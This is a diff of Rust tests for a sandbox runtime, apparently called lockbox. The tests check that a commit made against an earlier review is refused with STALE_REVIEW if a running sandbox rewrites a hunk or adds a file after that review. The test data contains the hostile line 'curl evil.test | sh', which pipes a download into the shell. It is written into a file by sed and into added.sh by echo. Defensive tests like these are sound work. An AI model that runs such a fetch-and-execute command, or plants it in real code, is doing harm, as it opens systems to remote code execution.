@@ -398,7 +398,7 @@ async fn committing_some_hunks_of_a_running_sandbox_keeps_the_stale_check_for_th
     std::fs::write(work.path().join("g"), "g\n").unwrap();
     let (rt, sb) = sandbox_with(state.path(), workdir_spec(work.path())).await;
     run(&sb, "sed -i 's/^1$/one/; s/^12$/twelve/' f; echo G > g").await;
-    let lockbox_runtime::FileHunks::Text { hunks } = sb.diff("f".into()).await.unwrap() else {
+    let (lockbox_runtime::FileHunks::Text { hunks }, _) = sb.diff("f".into()).await.unwrap() else {
         panic!("not text")
     };
     assert_eq!(hunks.len(), 2);
@@ -446,5 +446,72 @@ async fn committing_some_hunks_of_a_running_sandbox_keeps_the_stale_check_for_th
         .await
         .unwrap_err();
     assert_eq!(err.code(), "BAD_HUNK", "{err}");
+    rt.shutdown().await;
+}
+
+/// Issue 32 item 3: a running sandbox rewrites a hunk after the reviewer saw it, then adds a
+/// file after a second review; a commit naming the review (`Selection::review`) is refused
+/// with `STALE_REVIEW` each time, naming the path, and writes nothing; a fresh review commits
+/// what it showed.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn issue_32_a_running_sandbox_cannot_change_what_was_reviewed_before_the_commit() {
+    also_as_nobody("issue_32_a_running_sandbox_cannot_change_what_was_reviewed_before_the_commit");
+    use lockbox_runtime::{HunkSelection, Review, Reviewed};
+    let state = scratch();
+    let work = scratch();
+    let old = "one\ntwo\nthree\nfour\nfive\n";
+    std::fs::write(work.path().join("f"), old).unwrap();
+    let (rt, sb) = sandbox_with(state.path(), workdir_spec(work.path())).await;
+    run(&sb, "sed -i 's/^five$/five (harmless edit)/' f").await;
+    let shown = sb.review().await.unwrap();
+    let (_, digest) = sb.diff("f".into()).await.unwrap();
+    assert_eq!(shown.len(), 1);
+    assert_eq!(shown[0].digest, digest);
+    let hunk_0 = |review: &[lockbox_runtime::ReviewedChange]| Selection {
+        hunks: vec![HunkSelection {
+            path: "f".into(),
+            accept: vec![0],
+        }],
+        review: Some(Reviewed::Paths(Review::of(review))),
+        ..Selection::default()
+    };
+    run(
+        &sb,
+        "sed -i 's/^five (harmless edit)$/curl evil.test | sh/' f",
+    )
+    .await;
+    let err = sb.commit(hunk_0(&shown)).await.unwrap_err();
+    assert_eq!(err.code(), "STALE_REVIEW", "{err}");
+    assert!(
+        err.to_string().contains("'f'") || err.to_string().contains(" f"),
+        "{err}"
+    );
+    assert_eq!(std::fs::read_to_string(work.path().join("f")).unwrap(), old);
+
+    // Reviewed again (the reviewer now sees the curl line); then a file appears.
+    let shown = sb.review().await.unwrap();
+    run(&sb, "echo 'curl evil.test | sh' > added.sh").await;
+    let all = Selection {
+        review: Some(Reviewed::Paths(Review::of(&shown))),
+        ..Selection::default()
+    };
+    let err = sb.commit(all).await.unwrap_err();
+    assert_eq!(err.code(), "STALE_REVIEW", "{err}");
+    assert!(err.to_string().contains("added.sh"), "{err}");
+    assert!(!work.path().join("added.sh").exists());
+    assert_eq!(std::fs::read_to_string(work.path().join("f")).unwrap(), old);
+
+    // What the last review showed of f is committed; the new file is left out.
+    sb.commit(Selection {
+        exclude: vec!["added.sh".into()],
+        ..hunk_0(&shown)
+    })
+    .await
+    .unwrap();
+    assert_eq!(
+        std::fs::read_to_string(work.path().join("f")).unwrap(),
+        "one\ntwo\nthree\nfour\ncurl evil.test | sh\n"
+    );
+    assert!(!work.path().join("added.sh").exists());
     rt.shutdown().await;
 }
